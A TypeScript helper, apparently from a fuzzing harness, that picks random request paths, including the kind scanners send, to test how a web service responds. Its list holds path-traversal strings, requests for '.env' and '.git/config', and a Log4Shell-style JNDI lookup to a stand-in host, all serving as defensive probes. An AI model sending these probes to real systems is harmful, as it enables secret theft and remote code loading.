import type { Dice } from '../../support/drawn/dice.js';
import { encoded } from './draft.js';
import { oddTexts } from './odd-values.js';
import type { Operation } from './operations.js';

/** Addresses beside the contract: pages, files and what scanners ask for. */
export function pageTarget(dice: Dice, operation: Operation): string {
  const odd = encoded(dice.of(oddTexts).slice(0, 500));
  return dice.of([
    '/',
    '/auth?mode=reset&token=x',
    '/report/x',
    `/report/${odd}`,
    `/${odd}`,
    `/assets/${odd}`,
    '/assets/../../package.json',
    '/assets/%2e%2e/%2e%2e/package.json',
    '/.env',
    '/.git/config',
    '/.well-known/security.txt',
    '/robots.txt',
    '/sitemap.xml',
    '/service-worker.js',
    '/mail',
    '/mail/x',
    '/api',
    '/api/',
    '/api/docs',
    '/api/docs-json',
    '/api/openapi.yaml',
    `/api/${odd}`,
    operation.path,
    operation.path.replace('/api', ''),
    '/index.php?x=${jndi:ldap://a.example/x}',
  ]);
}
